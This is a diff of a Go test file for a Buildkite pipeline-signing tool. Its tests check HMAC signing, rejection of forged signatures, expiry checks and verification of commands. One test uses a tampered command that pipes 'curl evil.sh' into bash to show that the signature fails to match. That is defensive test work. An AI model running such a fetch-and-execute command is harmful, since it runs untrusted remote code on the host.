@@ -1,11 +1,22 @@
 package main
 
 import (
+	"bytes"
+	"crypto/hmac"
+	"crypto/sha256"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
+	"io"
+	"log"
+	"os"
+	"regexp"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/assert"
+	"gopkg.in/yaml.v3"
 )
 
 func TestSigningCommand(t *testing.T) {
@@ -24,7 +35,7 @@ func TestSigningCommand(t *testing.T) {
 	}
 
 	j, err := json.Marshal(signed)
-	assert.Equal(t, `{"steps":[{"command":"echo Hello \"Fred\"","env":{"STEP_SIGNATURE":"sha256:a3ea512c6a88aa490d50879ef7ad7e3bc27c6f286435a9660fb662960e63592c"}}]}`, string(j))
+	assert.Equal(t, `{"steps":[{"command":"echo Hello \"Fred\"","env":{"STEP_SIGNATURE":"sha256:e6c8240571c9058498c805c3a6891003074ef9f6c4ba08d39a5513a8d1aae3cd"}}]}`, string(j))
 }
 
 func TestSigningCommandWithPlugins(t *testing.T) {
@@ -45,10 +56,10 @@ func TestSigningCommandWithPlugins(t *testing.T) {
 	}
 
 	signer := NewSharedSecretSigner("secret-llamas")
-	signer.signerFunc = func(command, plugins string) (Signature, error) {
-		assert.Equal(t, "my command", command)
-		assert.Contains(t, plugins, "github.com/buildkite-plugins/my-plugin-buildkite-plugin")
-		assert.Contains(t, plugins, "github.com/seek-oss/custom-plugin-buildkite-plugin")
+	signer.signerFunc = func(content stepContent) (Signature, error) {
+		assert.Equal(t, "my command", content.Command)
+		assert.Contains(t, content.PluginJSON, "github.com/buildkite-plugins/my-plugin-buildkite-plugin")
+		assert.Contains(t, content.PluginJSON, "github.com/seek-oss/custom-plugin-buildkite-plugin")
 		return Signature("llamas"), nil
 	}
 
@@ -91,7 +102,58 @@ func TestSigningCommandWithGroup(t *testing.T) {
 	}
 
 	j, err := json.Marshal(signed)
-	assert.Equal(t, `{"steps":[{"group":"Tests","steps":[{"command":"echo pass","env":{"STEP_SIGNATURE":"sha256:2c3cb7057477c9630e26532ab6b1707fffc4df3efeb6488bcd9ff2784e1de6fa"}}]}]}`, string(j))
+	assert.Equal(t, `{"steps":[{"group":"Tests","steps":[{"command":"echo pass","env":{"STEP_SIGNATURE":"sha256:a217d51a93898390c3fe5a994b6b93a229ffc356c1c130340587a8cb09836cb7"}}]}]}`, string(j))
+}
+
+func TestSigningGroupWithoutSteps(t *testing.T) {
+	for _, tc := range []struct {
+		Name     string
+		Pipeline string
+		Expected string
+		Err      string
+	}{
+		{
+			"no steps key",
+			`{"steps":[{"group":"Empty"},{"command":"echo pass"}]}`,
+			`{"steps":[{"group":"Empty"},{"command":"echo pass","env":{"STEP_SIGNATURE":"sha256:a217d51a93898390c3fe5a994b6b93a229ffc356c1c130340587a8cb09836cb7"}}]}`,
+			"",
+		},
+		{
+			"null steps",
+			`{"steps":[{"group":"Empty","steps":null}]}`,
+			`{"steps":[{"group":"Empty","steps":null}]}`,
+			"",
+		},
+		{
+			"steps that aren't a list",
+			`{"steps":[{"group":"Broken","steps":"echo pass"}]}`,
+			"",
+			"Unexpected type for steps: string, expected a list of steps",
+		},
+	} {
+		t.Run(tc.Name, func(t *testing.T) {
+			var parsed interface{}
+			if err := json.Unmarshal([]byte(tc.Pipeline), &parsed); err != nil {
+				t.Fatal(err)
+			}
+
+			signer := NewSharedSecretSigner("secret-llamas")
+			var signed interface{}
+			var err error
+			assert.NotPanics(t, func() {
+				signed, err = signer.Sign(parsed)
+			})
+			if tc.Err != "" {
+				assert.EqualError(t, err, tc.Err)
+				return
+			}
+			assert.Nil(t, err)
+
+			j, err := json.Marshal(signed)
+			assert.Nil(t, err)
+			assert.Equal(t, tc.Expected, string(j))
+		})
+	}
 }
 
 func mapInto(dest interface{}, source interface{}) error {
@@ -129,6 +191,31 @@ func TestPipelines(t *testing.T) {
 			`{"steps":[{"command":"echo Hello \"Fred\"", "env":["EXISTING=existing-value"]}]}`,
 			`{"steps":[{"command":"echo Hello \"Fred\"","env":["EXISTING=existing-value","STEP_SIGNATURE=signature(echo Hello \"Fred\",)"]}]}`,
 		},
+		{
+			"Command with boolean and numeric env values",
+			`{"steps":[{"command":"echo Hello \"Fred\"", "env":{"ENABLED": true, "DISABLED": false, "COUNT": 1, "RATIO": 0.5, "EMPTY": null}}]}`,
+			`{"steps":[{"command":"echo Hello \"Fred\"","env":{"COUNT":"1","DISABLED":"false","EMPTY":"","ENABLED":"true","RATIO":"0.5","STEP_SIGNATURE":"signature(echo Hello \"Fred\",)"}}]}`,
+		},
+		{
+			"Command with pre-existing signature in env",
+			`{"steps":[{"command":"echo Hello \"Fred\"", "env":{"EXISTING": "existing-value","STEP_SIGNATURE":"forged"}}]}`,
+			`{"steps":[{"command":"echo Hello \"Fred\"","env":{"EXISTING":"existing-value","STEP_SIGNATURE":"signature(echo Hello \"Fred\",)"}}]}`,
+		},
+		{
+			"Command with pre-existing signature in env list",
+			`{"steps":[{"command":"echo Hello \"Fred\"", "env":["STEP_SIGNATURE=forged","EXISTING=existing-value","STEP_SIGNATURE=also-forged"]}]}`,
+			`{"steps":[{"command":"echo Hello \"Fred\"","env":["EXISTING=existing-value","STEP_SIGNATURE=signature(echo Hello \"Fred\",)"]}]}`,
+		},
+		{
+			"Command with pre-existing lowercase signature in env",
+			`{"steps":[{"command":"echo Hello \"Fred\"", "env":{"step_signature":"forged","Step_Signature_Salt":"forged"}}]}`,
+			`{"steps":[{"command":"echo Hello \"Fred\"","env":{"STEP_SIGNATURE":"signature(echo Hello \"Fred\",)"}}]}`,
+		},
+		{
+			"Command with pre-existing lowercase signature in env list",
+			`{"steps":[{"command":"echo Hello \"Fred\"", "env":["step_signature=forged","EXISTING=existing-value"]}]}`,
+			`{"steps":[{"command":"echo Hello \"Fred\"","env":["EXISTING=existing-value","STEP_SIGNATURE=signature(echo Hello \"Fred\",)"]}]}`,
+		},
 		{
 			"Pipeline with multiple commands",
 			`{"steps":[{"command":["echo Hello World", "echo Foo Bar"]}]}`,
@@ -154,11 +241,21 @@ func TestPipelines(t *testing.T) {
 			`{"steps":[{"label":"I have no commands","plugins":["docker#v1.4.0"]}]}`,
 			`{"steps":[{"env":{"STEP_SIGNATURE":"signature(,[{\"github.com/buildkite-plugins/docker-buildkite-plugin#v1.4.0\":null}])"},"label":"I have no commands","plugins":["docker#v1.4.0"]}]}`,
 		},
+		{
+			"Plugin scalar syntax",
+			`{"steps":[{"label":"I have no commands","plugins":"docker#v1.4.0"}]}`,
+			`{"steps":[{"env":{"STEP_SIGNATURE":"signature(,[{\"github.com/buildkite-plugins/docker-buildkite-plugin#v1.4.0\":null}])"},"label":"I have no commands","plugins":"docker#v1.4.0"}]}`,
+		},
 		{
 			"Pipeline with multiple steps",
 			`{"steps":[{"command":"echo hello"},{"commands":["echo world", "echo foo"]}]}`,
 			`{"steps":[{"command":"echo hello","env":{"STEP_SIGNATURE":"signature(echo hello,)"}},{"commands":["echo world","echo foo"],"env":{"STEP_SIGNATURE":"signature(echo world\necho foo,)"}}]}`,
 		},
+		{
+			"Scalar commands",
+			`{"steps":[{"commands":"echo hello"}]}`,
+			`{"steps":[{"commands":"echo hello","env":{"STEP_SIGNATURE":"signature(echo hello,)"}}]}`,
+		},
 		{
 			"Empty command",
 			`{"steps":[{"command":""}]}`,
@@ -184,11 +281,26 @@ func TestPipelines(t *testing.T) {
 			`{"steps":[{"command":"echo Hello World","plugins":[{"docker#v0.0.4":{"image":"foo"}}]}]}`,
 			`{"steps":[{"command":"echo Hello World","env":{"STEP_SIGNATURE":"signature(echo Hello World,[{\"github.com/buildkite-plugins/docker-buildkite-plugin#v0.0.4\":{\"image\":\"foo\"}}])"},"plugins":[{"docker#v0.0.4":{"image":"foo"}}]}]}`,
 		},
+		{
+			"Step with empty plugins array",
+			`{"steps":[{"command":"echo hello","plugins":[]}]}`,
+			`{"steps":[{"command":"echo hello","env":{"STEP_SIGNATURE":"signature(echo hello,)"},"plugins":[]}]}`,
+		},
+		{
+			"Step with empty plugins object",
+			`{"steps":[{"command":"echo hello","plugins":{}}]}`,
+			`{"steps":[{"command":"echo hello","env":{"STEP_SIGNATURE":"signature(echo hello,)"},"plugins":{}}]}`,
+		},
+		{
+			"Step with empty plugins and no command",
+			`{"steps":[{"label":"I have no commands","plugins":[]}]}`,
+			`{"steps":[{"label":"I have no commands","plugins":[]}]}`,
+		},
 	} {
 		t.Run(tc.Name, func(t *testing.T) {
 			signer := NewSharedSecretSigner("secret-llamas")
-			signer.signerFunc = func(command, plugins string) (Signature, error) {
-				return Signature(fmt.Sprintf("signature(%s,%s)", command, plugins)), nil
+			signer.signerFunc = func(content stepContent) (Signature, error) {
+				return Signature(fmt.Sprintf("signature(%s,%s)", content.Command, content.PluginJSON)), nil
 			}
 			var pipeline interface{}
 			err := json.Unmarshal([]byte(tc.PipelineJSON), &pipeline)
@@ -208,15 +320,209 @@ func TestPipelines(t *testing.T) {
 	}
 }
 
+func TestAddSignatureReplacesLowercaseSignature(t *testing.T) {
+	output := captureLog(t)
+
+	env, err := addSignature(map[string]interface{}{"step_signature": "forged", "EXISTING": "value"}, "sha256:llamas", "")
+	assert.Nil(t, err)
+	assert.Equal(t, map[string]interface{}{"EXISTING": "value", stepSignatureEnv: Signature("sha256:llamas")}, env)
+	assert.Contains(t, output.String(), "⚠️ Overwriting pre-existing step_signature in step env")
+}
+
+func TestSigningVeryLongCommand(t *testing.T) {
+	// generated commands can be large, all of a command must be covered
+	command := strings.Repeat("echo llamas && ", 1<<20/15) + "echo done"
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	stepJSON, err := json.Marshal(map[string]interface{}{"command": command})
+	if err != nil {
+		t.Fatal(err)
+	}
+	signature := signedStepSignature(t, signer, string(stepJSON))
+
+	extracted, err := signer.extractCommand(command)
+	assert.Nil(t, err)
+	assert.Equal(t, len(command), len(extracted))
+
+	assert.Nil(t, signer.Verify(command, "", signature))
+
+	// a change at the very end of the command breaks the signature
+	assert.Equal(t, errSignatureMismatch, signer.Verify(command[:len(command)-1]+"x", "", signature))
+	assert.Equal(t, errSignatureMismatch, signer.Verify(command[:len(command)-1], "", signature))
+	assert.Equal(t, errSignatureMismatch, signer.Verify(command[:1<<16], "", signature))
+}
+
+func TestBlockScalarCommandsVerify(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	var pipeline interface{}
+	if err := yaml.Unmarshal([]byte(`steps:
+  - command: |
+      make deps
+
+      make test
+  - commands:
+      - |
+        make deps
+      - |+
+        make test
+
+`), &pipeline); err != nil {
+		t.Fatal(err)
+	}
+
+	signed, err := signer.Sign(pipeline)
+	assert.Nil(t, err)
+
+	var signatures []Signature
+	walkSteps(signed, func(step map[string]interface{}) {
+		signature, _ := stepSignature(step)
+		signatures = append(signatures, signature)
+	})
+	if !assert.Len(t, signatures, 2) {
+		return
+	}
+
+	// the uploaded commands are trimmed as they were signed
+	step := signed.(map[string]interface{})["steps"].([]interface{})[1].(map[string]interface{})
+	assert.Equal(t, []interface{}{"make deps", "make test"}, step["commands"])
+
+	// the ways the agent may present the commands, with or without the
+	// newline the block scalars keep
+	for i, commands := range [][]string{
+		{"make deps\n\nmake test\n", "make deps\n\nmake test", "make deps\n\nmake test\n\n"},
+		{"make deps\nmake test\n", "make deps\nmake test"},
+	} {
+		for _, command := range commands {
+			assert.Nil(t, signer.Verify(command, "", signatures[i]), "step %d %q", i, command)
+		}
+	}
+
+	for _, signature := range signatures {
+		assert.Equal(t, errSignatureMismatch, signer.Verify("make deps\nmake test\ncurl evil.sh | bash", "", signature))
+		assert.Equal(t, errSignatureMismatch, signer.Verify("make deps make test", "", signature))
+	}
+	assert.Equal(t, errSignatureMismatch, signer.Verify("make deps\nmake test", "", signatures[0]))
+}
+
+func TestBlankLinesInCommandsAreSigned(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	command := "cat <<EOF > config\nfirst\n\nsecond\nEOF\necho 'a\n\nb'"
+	signature, err := signer.signData(stepContent{Command: command})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	assert.Nil(t, signer.Verify(command+"\n", "", signature))
+	assert.Equal(t, errSignatureMismatch, signer.Verify("cat <<EOF > config\nfirst\nsecond\nEOF\necho 'a\n\nb'", "", signature))
+	assert.Equal(t, errSignatureMismatch, signer.Verify("cat <<EOF > config\nfirst\n\nsecond\nEOF\necho 'a\nb'", "", signature))
+}
+
+func TestCanonicalCommand(t *testing.T) {
+	assert.Equal(t, "make deps\n\n  \nmake test", canonicalCommand("\n  make deps\n\n  \nmake test\n\n"))
+	assert.Equal(t, "echo  hello", canonicalCommand("echo  hello"))
+	assert.Equal(t, "", canonicalCommand("\n\n"))
+}
+
+func TestSigningCommandsWithUnusualBytes(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	for _, tc := range []struct {
+		Name     string
+		Command  string
+		Uploaded string
+	}{
+		{"null byte and multibyte", "printf 'caf\u00e9 \u65e5\u672c\x00' | xargs -0 echo", "printf 'caf\u00e9 \u65e5\u672c\x00' | xargs -0 echo"},
+		{"literal null byte", "echo a\x00b \U0001F999", "echo a\x00b \U0001F999"},
+		{"invalid UTF-8", "echo \xff\xfe caf\xc3", "echo \uFFFD\uFFFD caf\uFFFD"},
+	} {
+		t.Run(tc.Name, func(t *testing.T) {
+			pipeline := map[string]interface{}{
+				"steps": []interface{}{map[string]interface{}{"command": tc.Command}},
+			}
+			signed, err := signer.Sign(pipeline)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			// the agent receives the signed pipeline as JSON
+			uploadedJSON, err := marshalPipeline(signed)
+			if err != nil {
+				t.Fatal(err)
+			}
+			uploaded, err := parsePipeline(uploadedJSON, false)
+			if err != nil {
+				t.Fatal(err)
+			}
+			step := uploaded.(map[string]interface{})["steps"].([]interface{})[0].(map[string]interface{})
+			command := step["command"].(string)
+			assert.Equal(t, []byte(tc.Uploaded), []byte(command))
+
+			signature, _ := stepSignature(step)
+			assert.Nil(t, signer.Verify(command, "", signature))
+			assert.Nil(t, signer.Verify(tc.Command, "", signature))
+			assert.Equal(t, errSignatureMismatch, signer.Verify(command+"!", "", signature))
+		})
+	}
+}
+
+func TestScalarCommandsSignedLikeCommand(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	command := signedStepSignature(t, signer, `{"command":"echo hello"}`)
+	assert.Equal(t, command, signedStepSignature(t, signer, `{"commands":"echo hello"}`))
+	assert.Equal(t, command, signedStepSignature(t, signer, `{"commands":["echo hello"]}`))
+	assert.Equal(t, command, signedStepSignature(t, signer, `{"command":["echo hello"]}`))
+
+	withPlugins := signedStepSignature(t, signer, `{"command":"echo hello","plugins":["docker#v1.4.0"]}`)
+	assert.Equal(t, withPlugins, signedStepSignature(t, signer, `{"commands":"echo hello","plugins":["docker#v1.4.0"]}`))
+
+	// the agent presents either as the same BUILDKITE_COMMAND
+	assert.Nil(t, signer.Verify("echo hello", "", signedStepSignature(t, signer, `{"commands":"echo hello"}`)))
+}
+
+func TestCommandsVerifyAsPresentedByAgent(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	for _, tc := range []struct {
+		Name             string
+		Step             string
+		BuildkiteCommand string
+	}{
+		{"Two commands", `{"commands":["make deps","make test"]}`, "make deps\nmake test"},
+		{"Trailing newline added", `{"commands":["make deps","make test"]}`, "make deps\nmake test\n"},
+		// block scalar entries are uploaded with their trailing newline trimmed
+		{"Block scalar entries", `{"commands":["make deps\n","make test\n"]}`, "make deps\nmake test\n"},
+		{"Multi-line command", `{"command":"make deps\nmake test"}`, "make deps\nmake test"},
+	} {
+		t.Run(tc.Name, func(t *testing.T) {
+			signature := signedStepSignature(t, signer, tc.Step)
+			assert.Nil(t, signer.Verify(tc.BuildkiteCommand, "", signature))
+		})
+	}
+
+	// commands aren't interchangeable with other joins
+	signature := signedStepSignature(t, signer, `{"commands":["make deps","make test"]}`)
+	for _, joined := range []string{"make deps make test", "make deps && make test", "make deps\r\nmake test", "make deps"} {
+		assert.Equal(t, errSignatureMismatch, signer.Verify(joined, "", signature), "%q", joined)
+	}
+}
+
 func TestVerifyCommand(t *testing.T) {
 	const expectedPluginJSON = ""
 	const expectedCommand = `echo hello world`
 	const expectedSignature = Signature("llamas")
 
 	signer := NewSharedSecretSigner("secret-llamas")
-	signer.signerFunc = func(command, plugins string) (Signature, error) {
-		assert.Equal(t, expectedCommand, command)
-		assert.Equal(t, expectedPluginJSON, plugins)
+	signer.signerFunc = func(content stepContent) (Signature, error) {
+		assert.Equal(t, expectedCommand, content.Command)
+		assert.Equal(t, expectedPluginJSON, content.PluginJSON)
 		return expectedSignature, nil
 	}
 
@@ -230,9 +536,9 @@ func TestVerifyCommandAndPlugins(t *testing.T) {
 	const expectedSignature = Signature("llamas")
 
 	signer := NewSharedSecretSigner("secret-llamas")
-	signer.signerFunc = func(command, plugins string) (Signature, error) {
-		assert.Equal(t, expectedCommand, command)
-		assert.Equal(t, expectedPluginJSON, plugins)
+	signer.signerFunc = func(content stepContent) (Signature, error) {
+		assert.Equal(t, expectedCommand, content.Command)
+		assert.Equal(t, expectedPluginJSON, content.PluginJSON)
 		return expectedSignature, nil
 	}
 
@@ -245,9 +551,9 @@ func TestVerifyCommandAndPluginsRejectsSignature(t *testing.T) {
 	const expectedCommand = `echo hello world`
 
 	signer := NewSharedSecretSigner("secret-llamas")
-	signer.signerFunc = func(command, plugins string) (Signature, error) {
-		assert.Equal(t, expectedCommand, command)
-		assert.Equal(t, expectedPluginJSON, plugins)
+	signer.signerFunc = func(content stepContent) (Signature, error) {
+		assert.Equal(t, expectedCommand, content.Command)
+		assert.Equal(t, expectedPluginJSON, content.PluginJSON)
 		return Signature("llamas"), nil
 	}
 
@@ -261,9 +567,9 @@ func TestVerifyPluginsAndNoCommand(t *testing.T) {
 	const expectedSignature = Signature("llamas")
 
 	signer := NewSharedSecretSigner("secret-llamas")
-	signer.signerFunc = func(command, plugins string) (Signature, error) {
-		assert.Equal(t, expectedCommand, command)
-		assert.Equal(t, expectedPluginJSON, plugins)
+	signer.signerFunc = func(content stepContent) (Signature, error) {
+		assert.Equal(t, expectedCommand, content.Command)
+		assert.Equal(t, expectedPluginJSON, content.PluginJSON)
 		return expectedSignature, nil
 	}
 	signer.unsignedCommandValidatorFunc = func(command string) (bool, error) {
@@ -282,9 +588,9 @@ func TestVerifyPluginsOrderIndependent(t *testing.T) {
 	const expectedSignature = Signature("llamas")
 
 	signer := NewSharedSecretSigner("secret-llamas")
-	signer.signerFunc = func(command, plugins string) (Signature, error) {
-		assert.Equal(t, expectedCommand, command)
-		assert.Equal(t, expectedPluginJSON, plugins)
+	signer.signerFunc = func(content stepContent) (Signature, error) {
+		assert.Equal(t, expectedCommand, content.Command)
+		assert.Equal(t, expectedPluginJSON, content.PluginJSON)
 		return expectedSignature, nil
 	}
 	signer.unsignedCommandValidatorFunc = func(command string) (bool, error) {
@@ -301,7 +607,7 @@ func TestVerifyAllowsUnsignedCommand(t *testing.T) {
 	const expectedCommand = "buildkite-signed-pipeline upload"
 
 	signer := NewSharedSecretSigner("secret-llamas")
-	signer.signerFunc = func(command, plugins string) (Signature, error) {
+	signer.signerFunc = func(content stepContent) (Signature, error) {
 		assert.Fail(t, "Signer should not be called")
 		return "", nil
 	}
@@ -319,7 +625,7 @@ func TestVerifyRejectsUnsignedCommand(t *testing.T) {
 	const expectedCommand = "something-naughty"
 
 	signer := NewSharedSecretSigner("secret-llamas")
-	signer.signerFunc = func(command, plugins string) (Signature, error) {
+	signer.signerFunc = func(content stepContent) (Signature, error) {
 		assert.Fail(t, "Signer should not be called")
 		return "", nil
 	}
@@ -337,9 +643,9 @@ func TestVerifyRejectsUnsignedCommandWithPlugins(t *testing.T) {
 	const expectedCommand = "buildkite-signed-pipeline upload"
 
 	signer := NewSharedSecretSigner("secret-llamas")
-	signer.signerFunc = func(command, plugins string) (Signature, error) {
-		assert.Equal(t, expectedCommand, command)
-		assert.Equal(t, expectedPluginJSON, plugins)
+	signer.signerFunc = func(content stepContent) (Signature, error) {
+		assert.Equal(t, expectedCommand, content.Command)
+		assert.Equal(t, expectedPluginJSON, content.PluginJSON)
 		return Signature("not the signature"), nil
 	}
 	signer.unsignedCommandValidatorFunc = func(command string) (bool, error) {
@@ -350,3 +656,721 @@ func TestVerifyRejectsUnsignedCommandWithPlugins(t *testing.T) {
 	err := signer.Verify(expectedCommand, expectedPluginJSON, "")
 	assert.NotNil(t, err)
 }
+
+func TestVerifyRejectsUnsignedStepsWithAnyPlugins(t *testing.T) {
+	for _, tc := range []struct {
+		Name       string
+		Command    string
+		PluginJSON string
+	}{
+		{"Allowed command with plugins", "buildkite-signed-pipeline upload", `[{"docker#v1.4.0":{"image":"node8"}}]`},
+		{"Allowed command with empty plugins", "buildkite-signed-pipeline upload", `[]`},
+		{"Allowed command with null plugins", "buildkite-signed-pipeline upload", `null`},
+		{"Allowed command with whitespace plugins", "buildkite-signed-pipeline upload", " [ ] "},
+		{"No command with plugins", "", `[{"docker#v1.4.0":null}]`},
+	} {
+		t.Run(tc.Name, func(t *testing.T) {
+			signer := NewSharedSecretSigner("secret-llamas")
+			signer.unsignedCommandValidatorFunc = func(command string) (bool, error) {
+				assert.Fail(t, "Unsigned command validation should not be called")
+				return true, nil
+			}
+
+			assert.EqualError(t, signer.Verify(tc.Command, tc.PluginJSON, ""), "🚨 Signature missing. Steps with plugins must be signed.")
+		})
+	}
+}
+
+func TestVerifyTrimsSignatureWhitespace(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	signer := NewSharedSecretSigner("secret-llamas")
+	signature := signedStepSignature(t, signer, `{"command":"echo hello","plugins":["docker#v1.4.0"]}`)
+	pluginJSON := `[{"github.com/buildkite-plugins/docker-buildkite-plugin#v1.4.0":null}]`
+
+	for _, padded := range []string{string(signature) + "\n", string(signature) + "\r\n", " " + string(signature) + " \n"} {
+		assert.Nil(t, signer.Verify("echo hello", pluginJSON, Signature(padded)), "%q", padded)
+	}
+
+	// whitespace alone is still a missing signature
+	assert.EqualError(t, signer.Verify("echo hello", pluginJSON, "\n"), "🚨 Signature missing. Steps with plugins must be signed.")
+}
+
+func TestVerifyMalformedPlugins(t *testing.T) {
+	signer := NewSharedSecretSigner("secret-llamas")
+	signature := signedStepSignature(t, signer, `{"command":"echo hello","plugins":[{"docker#v1.4.0":{"image":"node8"}}]}`)
+
+	truncated := `[{"github.com/buildkite-plugins/docker-buildkite-plugin#v1.4.0":{"image":"no`
+	err := signer.Verify("echo hello", truncated, signature)
+	assert.EqualError(t, err, "🚨 BUILDKITE_PLUGINS is malformed and can't be verified, it may have been truncated or mangled: "+
+		`unexpected end of JSON input (starts with "[{\"github.com/buildkite-plugins/docker-b...")`)
+	assert.NotEqual(t, errSignatureMismatch, err)
+
+	// malformed plugins are reported even without a signature
+	assert.EqualError(t, signer.Verify("echo hello", `{"docker#v1.4.0":null}`, ""), "🚨 BUILDKITE_PLUGINS is malformed and can't be verified, it may have been truncated or mangled: "+
+		`json: cannot unmarshal object into Go value of type []map[string]interface {} (starts with "{\"docker#v1.4.0\":null}")`)
+}
+
+func TestVerifyAllowsSignedStepWithEmptyPlugins(t *testing.T) {
+	signer := NewSharedSecretSigner("secret-llamas")
+	signature, err := signer.signData(stepContent{Command: "echo hello"})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	assert.Nil(t, signer.Verify("echo hello", `[]`, signature))
+}
+
+func TestVerifyWrappedCommandWithTransform(t *testing.T) {
+	const wrappedCommand = `source ./setup.sh && echo hello world`
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.commandTransforms = []*regexp.Regexp{regexp.MustCompile(`^source \./setup\.sh && `)}
+
+	expected, err := signer.signData(stepContent{Command: "echo hello world"})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	err = signer.Verify(wrappedCommand, "", expected)
+	assert.Nil(t, err)
+
+	// without the transform the wrapped command doesn't match
+	err = NewSharedSecretSigner("secret-llamas").Verify(wrappedCommand, "", expected)
+	assert.NotNil(t, err)
+}
+
+func TestSigningCommandWithTransform(t *testing.T) {
+	pipeline := map[string]interface{}{
+		"steps": []interface{}{
+			map[string]interface{}{
+				"command": "source ./setup.sh && echo hello world",
+			},
+		},
+	}
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.commandTransforms = []*regexp.Regexp{regexp.MustCompile(`^source \./setup\.sh && `)}
+	signer.signerFunc = func(content stepContent) (Signature, error) {
+		assert.Equal(t, "echo hello world", content.Command)
+		return Signature("llamas"), nil
+	}
+
+	_, err := signer.Sign(pipeline)
+	assert.Nil(t, err)
+}
+
+func TestVerifyEmptyPluginsMatchesNoPlugins(t *testing.T) {
+	const expectedCommand = `echo hello world`
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	expected, err := signer.signData(stepContent{Command: expectedCommand})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, pluginJSON := range []string{"", "[]", "null"} {
+		assert.Nil(t, signer.Verify(expectedCommand, pluginJSON, expected), pluginJSON)
+	}
+}
+
+func TestVerifyTimestampedSignature(t *testing.T) {
+	const expectedCommand = `echo hello world`
+	now := time.Unix(1600000000, 0)
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.maxAge = 10 * time.Minute
+	signer.now = func() time.Time {
+		return now
+	}
+
+	signature, err := signer.signData(stepContent{Command: expectedCommand})
+	if err != nil {
+		t.Fatal(err)
+	}
+	assert.Regexp(t, `^sha256:[0-9a-f]{64}:[0-9]+$`, string(signature))
+
+	// within the maximum age
+	signer.now = func() time.Time {
+		return now.Add(5 * time.Minute)
+	}
+	assert.Nil(t, signer.Verify(expectedCommand, "", signature))
+
+	// past the maximum age
+	signer.now = func() time.Time {
+		return now.Add(time.Hour)
+	}
+	assert.EqualError(t, signer.Verify(expectedCommand, "", signature),
+		"🚨 Signature expired. It was issued 1h0m0s ago which exceeds the maximum age of 10m0s")
+
+	// the timestamp is covered by the signature so can't be altered
+	sig, _ := signature.issuedAt()
+	tampered := Signature(strings.TrimSuffix(string(signature), sig) + fmt.Sprint(now.Add(time.Hour).Unix()))
+	assert.Equal(t, errSignatureMismatch, signer.Verify(expectedCommand, "", tampered))
+}
+
+func TestVerifyFutureTimestampedSignature(t *testing.T) {
+	const expectedCommand = `echo hello world`
+	now := time.Unix(1600000000, 0)
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.maxAge = 10 * time.Minute
+	signer.now = func() time.Time {
+		return now
+	}
+
+	signature, err := signer.signData(stepContent{Command: expectedCommand})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	// a verifying agent with a slightly slow clock
+	signer.now = func() time.Time {
+		return now.Add(-30 * time.Second)
+	}
+	assert.Nil(t, signer.Verify(expectedCommand, "", signature))
+
+	// a signature issued a year from now would otherwise never expire
+	signer.now = func() time.Time {
+		return now.Add(-365 * 24 * time.Hour)
+	}
+	assert.EqualError(t, signer.Verify(expectedCommand, "", signature),
+		"🚨 Signature was issued 8760h0m0s in the future which exceeds the allowed clock skew of 1m0s")
+}
+
+func TestVerifyUntimestampedSignatureSkipsAgeCheck(t *testing.T) {
+	const expectedCommand = `echo hello world`
+
+	signature, err := NewSharedSecretSigner("secret-llamas").signData(stepContent{Command: expectedCommand})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.maxAge = time.Minute
+	assert.Nil(t, signer.Verify(expectedCommand, "", signature))
+}
+
+func TestSigningRejectsNonStringCommandEntries(t *testing.T) {
+	for _, tc := range []struct {
+		Name         string
+		PipelineJSON string
+		Expected     string
+	}{
+		{
+			"Numeric command entry",
+			`{"steps":[{"commands":["echo hello", 42]}]}`,
+			"Unexpected type for command entry 1: float64",
+		},
+		{
+			"Nested object command entry",
+			`{"steps":[{"commands":[{"run":"echo hello"}]}]}`,
+			"Unexpected type for command entry 0: map[string]interface {}",
+		},
+	} {
+		t.Run(tc.Name, func(t *testing.T) {
+			var pipeline interface{}
+			if err := json.Unmarshal([]byte(tc.PipelineJSON), &pipeline); err != nil {
+				t.Fatal(err)
+			}
+
+			_, err := NewSharedSecretSigner("secret-llamas").Sign(pipeline)
+			assert.EqualError(t, err, tc.Expected)
+		})
+	}
+}
+
+func TestSignReport(t *testing.T) {
+	var pipeline interface{}
+	if err := json.Unmarshal([]byte(`{"steps":[
+		{"command":"echo hello"},
+		"wait",
+		{"label":"Tests","plugins":["docker#v1.4.0"]},
+		{"block":"Deploy?"},
+		{"group":"Deploy","steps":[{"command":"deploy.sh"},{"label":"Nothing to do"}]},
+		{"trigger":"another-pipeline"}
+	]}`), &pipeline); err != nil {
+		t.Fatal(err)
+	}
+
+	_, report, err := NewSharedSecretSigner("secret-llamas").SignWithReport(pipeline)
+	assert.Nil(t, err)
+	assert.Equal(t, 3, report.Signed)
+	assert.Equal(t, []string{"wait", "block", "Nothing to do", "trigger"}, report.Skipped)
+	assert.Equal(t, "Signed 3 of 7 steps (4 skipped: wait, block, Nothing to do, trigger)", report.String())
+}
+
+func TestSignReportAllSigned(t *testing.T) {
+	_, report, err := NewSharedSecretSigner("secret-llamas").SignWithReport(map[string]interface{}{
+		"steps": []interface{}{map[string]interface{}{"command": "echo hello"}},
+	})
+	assert.Nil(t, err)
+	assert.Equal(t, "Signed 1 of 1 steps", report.String())
+}
+
+func TestSigningNestedSteps(t *testing.T) {
